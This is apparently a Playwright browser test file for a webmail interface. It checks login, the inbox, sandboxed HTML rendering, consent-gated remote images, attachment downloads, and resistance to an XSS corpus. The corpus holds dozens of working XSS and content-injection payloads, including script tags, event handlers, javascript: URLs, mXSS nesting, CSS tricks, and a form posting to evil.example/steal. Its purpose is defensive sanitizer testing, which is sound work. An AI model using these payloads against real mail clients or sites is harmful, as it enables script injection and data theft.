/**
 * The webmail in a real browser: Playwright (playwright-core) driving Debian's Chromium
 * against the real mxspool CLI. Logs in, reads the inbox, opens an HTML message (sanitised,
 * in a sandboxed frame; remote images only after "Show remote images"), downloads an
 * attachment, works from the keyboard and on a phone-sized screen, and opens an XSS corpus
 * that must run nothing and load nothing remote. Every request the browser makes goes through
 * a route that records it; nothing reaches the network. Screenshots of the inbox and of a
 * message at desktop and phone widths go to test-artifacts/screenshots/ (and the desktop inbox
 * to docs/webmail-inbox.png for the README). Chromium is launched and closed here; every wait
 * is bounded.
 */
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { MessageRecords } from "../../src/store/message-records.js";
import { Keyspace } from "../../src/redis/keyspace.js";
import { waitFor } from "../helpers/net.js";
import { launchChromium, screen, submitWebmailLogin } from "../helpers/chromium.js";
import { mail, startWebmailStack, type WebmailStack } from "../helpers/webmail-stack.js";
import { readmePicture } from "../helpers/readme-pictures.js";

const root = path.resolve(import.meta.dirname, "../..");
const shots = path.join(root, "test-artifacts/screenshots");
const PASSWORD = "alice-browser-password";
const DESKTOP = { width: 1280, height: 800 };
const PHONE = { width: 390, height: 844 };
// a 1x1 PNG, for inline (cid:) and for "remote" images answered by the test's route
const PNG = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5e1a2f70000000049454e44ae426082", "hex");
const BANNER = "https://images.northwind.example/banner.png";
const ALLOWED_IMAGE = "https://img.evil.example/pixel.png";

/** Script, handlers, javascript: URLs, SVG, MathML, CSS tricks, meta refresh, frames, forms, base. Remote bits use evil.example. */
const XSS_CORPUS = `
<p id="marker">Visible corpus marker</p>
<script>alert('script');top.document.title='XSS'</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert('onerror');top.document.title='XSS'">
<img src="${ALLOWED_IMAGE}" onload="alert('onload')">
<body onload="alert('body')">
<svg onload="alert('svg')"><script>alert('svg-script')</script><image href="https://evil.example/svg.png"/><a href="javascript:alert('svg-a')"><text y="20">svg link</text></a></svg>
<svg><animate onbegin="alert('animate')" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="alert(1)"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<a id="js" href="javascript:alert('js-url')">javascript link</a>
<a href="JaVaScRiPt:alert('case')">case</a>
<a href="&#106;avascript:alert('entity')">entity</a>
<a href="java\tscript:alert('tab')">tab</a>
<a href="data:text/html,<script>alert('data')</script>">data url</a>
<a href="vbscript:msgbox(1)">vbscript</a>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/obj.swf"></object>
<embed src="https://evil.example/embed.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)} p{color:red}</style>
<div style="background-image:url(https://evil.example/div.png)">css background</div>
<div style="width:expression(alert('expr'))">css expression</div>
<div style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml)">css behavior</div>
<div style="background:u\\72l(https://evil.example/escaped.png)">css escape</div>
<form action="https://evil.example/steal"><input name="x" value="y"><button id="submit">go</button></form>
<base href="https://evil.example/">
<img src="relative.png" alt="relative">
<img srcset="https://evil.example/srcset.png 1x">
<picture><source srcset="https://evil.example/source.png"><img src="${ALLOWED_IMAGE}#p"></picture>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<table background="https://evil.example/table.png"><tr><td background="https://evil.example/td.png">table bg</td></tr></table>
<input type="image" src="https://evil.example/input.png">
<details open ontoggle="alert('toggle')"><summary>details</summary></details>
<marquee onstart="alert('marquee')">marquee</marquee>
<a href="#" onclick="alert('click')" id="clicky">click me</a>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<!--<img src=x onerror=alert('comment')>-->
<xmp><img src=x onerror=alert('xmp')></xmp>
<isindex action="javascript:alert(1)">
<img src="${ALLOWED_IMAGE}?hidden" style="display:none">
<img src="//evil.example/protocol-relative.png">
<img src="http://evil.example/plain-http.png">
<a href="https://safe.example/" id="safe">a safe link</a>
`;

describe("webmail in Chromium", () => {
  let s: WebmailStack;
  let browser: Browser;
  const ids: Record<string, string> = {};
  const external: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    fs.mkdirSync(shots, { recursive: true });
    s = await startWebmailStack();
    await s.addUser("alice@example.test", PASSWORD);
    await s.addUser("victim@example.test", PASSWORD);
    const seen = (event: string) => s.mx.events(event).filter((l) => l.domain === "example.test").length;
    const send = async (key: string, from: string, m: Omit<Parameters<typeof mail>[0], "to" | "from">, to = "alice@example.test") => {
      ids[key] = await s.send(/<(.+)>/.exec(from)?.[1] ?? from, [to], await mail({ ...m, from, to: [to] }));
    };

    // two messages the user's server already has (the primary is up for a moment)
    await s.primary.start();
    await waitFor("primary up", () => seen("PRIMARY_UP") > 0, 20_000);
    await send("build", "Build Server <builds@ci.example>", { subject: "Nightly build #1432 passed", text: "All 2,314 tests passed." });
    await send("it", "IT Helpdesk <helpdesk@example.test>", { subject: "Planned maintenance of the mail server tonight", text: "The mail server will be down from 22:00. Mail keeps arriving and waits for you here." });
    const records = new MessageRecords(s.redis.client(), new Keyspace("mxspool"));
    await waitFor("two delivered", async () => (await records.get(ids.it))?.state === "delivered" && (await records.get(ids.build))?.state === "delivered", 30_000);
    const downs = seen("PRIMARY_DOWN");
    await s.primary.stop();
    await waitFor("primary down", () => seen("PRIMARY_DOWN") > downs, 20_000);

    await send("xss", "Mallory <mallory@evil.example>", { subject: "XSS corpus", text: "corpus", html: XSS_CORPUS }, "victim@example.test");
    await send("travel", "Travel Desk <travel@agency.example>", { subject: "Your booking confirmation LX 318", text: "Zürich → Lisbon, 12 March. Your ticket is attached.", attachments: [{ filename: "ticket.pdf", content: Buffer.from("%PDF-1.4 ticket"), contentType: "application/pdf" }] });
    await send("lunch", "Jonas Weber <jonas@example.test>", { subject: "Re: Lunch on Thursday?", text: "Thursday works. 12:30 at the usual place?" });
    await send("news", "Northwind Analytics <news@northwind.example>", {
      subject: "Monthly report — November highlights",
      text: "November highlights: revenue up 12 %. The full report is attached.",
      html: `<table width="100%" style="background-color:#f4f6fb;padding:16px"><tr><td>
        <img src="cid:logo@northwind" alt="Northwind logo" width="48" height="48">
        <h1 style="color:#1f3a93;font-family:Georgia,serif">November highlights</h1>
        <img src="${BANNER}" alt="Chart of the month" width="600" height="120">
        <p style="font-size:16px">Revenue is <b>up 12 %</b> on October. The full report is attached.</p>
        <p><a href="https://northwind.example/report">Read online</a></p>
      </td></tr></table>`,
      attachments: [
        { filename: "logo.png", cid: "logo@northwind", content: PNG, contentType: "image/png" },
        { filename: "November report.pdf", content: Buffer.from("%PDF-1.4 the November report"), contentType: "application/pdf" },
      ],
    });
    await send("contract", "Anna Schmidt <anna@partner-firm.example>", { subject: "Contract draft — comments by Friday", text: "Hi Alice,\n\nplease find the draft attached. Comments by Friday would be great.\n\nAnna", attachments: [{ filename: "contract-draft.docx", content: Buffer.from("PK draft"), contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" }] });

    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await s?.stop();
  });

  /** A context whose every request is recorded; anything not to mxspool is answered by the test (images) or aborted. */
  async function newContext(viewport = DESKTOP, mobile = false): Promise<BrowserContext> {
    const ctx = await browser.newContext({ ...screen(viewport, mobile), acceptDownloads: true, timezoneId: "Europe/Zurich" });
    ctx.setDefaultTimeout(10_000);
    ctx.setDefaultNavigationTimeout(15_000);
    await ctx.route((url) => !url.href.startsWith(s.base), async (route) => {
      external.push(route.request().url());
      if (/\.png(#.*)?$/.test(route.request().url()) && route.request().url().startsWith("https://")) await route.fulfill({ status: 200, contentType: "image/png", body: PNG });
      else await route.abort();
    });
    ctx.on("page", (p) => p.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); }));
    return ctx;
  }

  async function logIn(page: Page, address = "alice@example.test"): Promise<void> {
    await page.goto(`${s.base}/`);
    await expect.poll(() => page.url(), { timeout: 5000 }).toBe(`${s.base}/login`);
    await submitWebmailLogin(page, s.base, address, PASSWORD);
  }

  it("logs in and shows the inbox, newest first, with badges (desktop and phone screenshots)", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    await logIn(page);
    const rows = page.locator("a.msg");
    await expect.poll(() => rows.count(), { timeout: 5000 }).toBe(6);
    expect(await page.locator("a.msg .subject").allInnerTexts()).toEqual([
      "Contract draft — comments by Friday", "Monthly report — November highlights", "Re: Lunch on Thursday?",
      "Your booking confirmation LX 318", "Planned maintenance of the mail server tonight", "Nightly build #1432 passed",
    ]);
    expect(await page.locator(".badge.waiting").count()).toBe(4);
    expect(await page.locator(".badge.delivered").count()).toBe(2);
    expect(await page.locator(".att").count()).toBe(3);
    expect(await page.locator(".banner.down").innerText()).toContain("not reachable");
    await page.screenshot({ path: path.join(shots, "inbox-desktop.png") });
    fs.copyFileSync(path.join(shots, "inbox-desktop.png"), readmePicture("webmail-inbox.png"));

    const phone = await newContext(PHONE, true);
    await phone.addCookies(await ctx.cookies());
    const p = await phone.newPage();
    await p.goto(`${s.base}/`);
    await expect.poll(() => p.locator("a.msg").count(), { timeout: 5000 }).toBe(6);
    expect(await p.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true); // no sideways scrolling
    await p.screenshot({ path: path.join(shots, "inbox-phone.png") });
    await phone.close();
    await ctx.close();
    expect(external).toEqual([]);
  });

  it("works from the keyboard: / to search, j to the first message, Enter to open it", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    await logIn(page);
    await page.keyboard.press("/");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("q");
    await page.keyboard.type("booking");
    await page.keyboard.press("Enter");
    await page.waitForURL(/\?q=booking/);
    expect(await page.locator("a.msg .subject").allInnerTexts()).toEqual(["Your booking confirmation LX 318"]);
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.waitForURL(`${s.base}/m/${ids.travel}`);
    expect(await page.locator("h1").innerText()).toBe("Your booking confirmation LX 318");
    await ctx.close();
  });

  it("opens an HTML message in a sandboxed frame and loads remote images only when asked (desktop and phone screenshots)", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    await logIn(page);
    await page.getByRole("link", { name: /Monthly report/ }).click();
    await page.waitForURL(`${s.base}/m/${ids.news}`);
    const frameEl = page.locator("iframe.mail-frame");
    expect(await frameEl.getAttribute("sandbox")).toBe("allow-popups allow-popups-to-escape-sandbox");
    const frame = page.frameLocator("iframe.mail-frame");
    await expect.poll(() => frame.locator("h1").innerText(), { timeout: 5000 }).toBe("November highlights");
    // the inline (cid:) logo shows; the remote banner does not, and was never requested
    await expect.poll(() => frame.locator('img[alt="Northwind logo"]').evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth > 0), { timeout: 5000 }).toBe(true);
    expect(await frame.locator('img[alt="Chart of the month"]').getAttribute("src")).toBeNull();
    expect(external).toEqual([]);
    await expect.poll(() => page.locator(".attachments li").count(), { timeout: 2000 }).toBe(1);
    await page.screenshot({ path: path.join(shots, "message-desktop.png"), fullPage: true });

    await page.getByRole("link", { name: "Show remote images" }).click();
    await page.waitForURL(`${s.base}/m/${ids.news}?images=1`);
    await expect.poll(() => external.includes(BANNER), { timeout: 5000 }).toBe(true);
    expect(external.filter((u) => u !== BANNER)).toEqual([]);

    const phone = await newContext(PHONE, true);
    await phone.addCookies(await ctx.cookies());
    const p = await phone.newPage();
    await p.goto(`${s.base}/m/${ids.news}`);
    await expect.poll(() => p.frameLocator("iframe.mail-frame").locator("h1").innerText(), { timeout: 5000 }).toBe("November highlights");
    expect(await p.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await p.screenshot({ path: path.join(shots, "message-phone.png"), fullPage: true });
    await phone.close();
    await ctx.close();
    external.length = 0;
  });

  it("downloads an attachment with its name and bytes", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    await logIn(page);
    await page.goto(`${s.base}/m/${ids.news}`);
    const [download] = await Promise.all([page.waitForEvent("download", { timeout: 10_000 }), page.getByRole("link", { name: "November report.pdf" }).click()]);
    expect(download.suggestedFilename()).toBe("November report.pdf");
    const file = await download.path();
    expect(fs.readFileSync(file!).toString()).toBe("%PDF-1.4 the November report");
    const [eml] = await Promise.all([page.waitForEvent("download", { timeout: 10_000 }), page.getByRole("link", { name: /Download original/ }).click()]);
    expect(eml.suggestedFilename()).toBe(`${ids.news}.eml`);
    const original = fs.readFileSync((await eml.path())!).toString();
    expect(original).toMatch(/^Received: from /);
    expect(original).toContain('Content-Disposition: attachment; filename="November report.pdf"');
    await ctx.close();
  });

  it("runs nothing and loads nothing remote from an XSS corpus, with and without remote images", async () => {
    const ctx = await newContext();
    const page = await ctx.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await logIn(page, "victim@example.test");
    const title = "XSS corpus · mxspool mail";
    for (const images of [false, true]) {
      external.length = 0;
      await page.goto(`${s.base}/m/${ids.xss}${images ? "?images=1" : ""}`);
      const frame = page.frameLocator("iframe.mail-frame");
      await expect.poll(() => frame.locator("#marker").innerText(), { timeout: 5000 }).toBe("Visible corpus marker");
      await frame.locator("#clicky").click();
      await frame.locator("details summary").click();
      await frame.locator("#js").click({ modifiers: [] }).catch(() => undefined);
      await page.waitForTimeout(1500); // time for a meta refresh, an animation or a handler to fire
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
      expect(await page.title()).toBe(title);
      expect(page.url()).toBe(`${s.base}/m/${ids.xss}${images ? "?images=1" : ""}`);
      const frameUrl = page.frames().find((f) => f !== page.mainFrame())?.url().split("#")[0];
      expect(frameUrl).toBe(`${s.base}/m/${ids.xss}/body${images ? "?images=1" : ""}`);
      // nothing remote, but with consent the plain https <img> tags (and only those)
      expect(external.filter((u) => !(images && u.startsWith(ALLOWED_IMAGE)))).toEqual([]);
      if (images) expect(external.some((u) => u.startsWith(ALLOWED_IMAGE))).toBe(true);
      const dom = await frame.locator("body").evaluate((b) => ({
        scripts: b.querySelectorAll("script, iframe, object, embed, svg, math, form, input, style, link, meta, base, video, audio, picture, source").length
          + b.ownerDocument.querySelectorAll("head script, head link, head base, head meta[http-equiv]").length,
        handlers: [...b.ownerDocument.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on")),
        hrefs: [...b.querySelectorAll("a[href]")].map((a) => a.getAttribute("href")),
      }));
      expect(dom.scripts).toBe(0);
      expect(dom.handlers).toEqual([]);
      expect(dom.hrefs.filter((h) => !/^(https:|#)/.test(h ?? ""))).toEqual([]);
    }
    // the one safe link opens in a new tab outside the sandbox, without a referrer
    expect(await page.frameLocator("iframe.mail-frame").locator("#safe").getAttribute("rel")).toBe("noopener noreferrer nofollow");
    await ctx.close();
  });
});
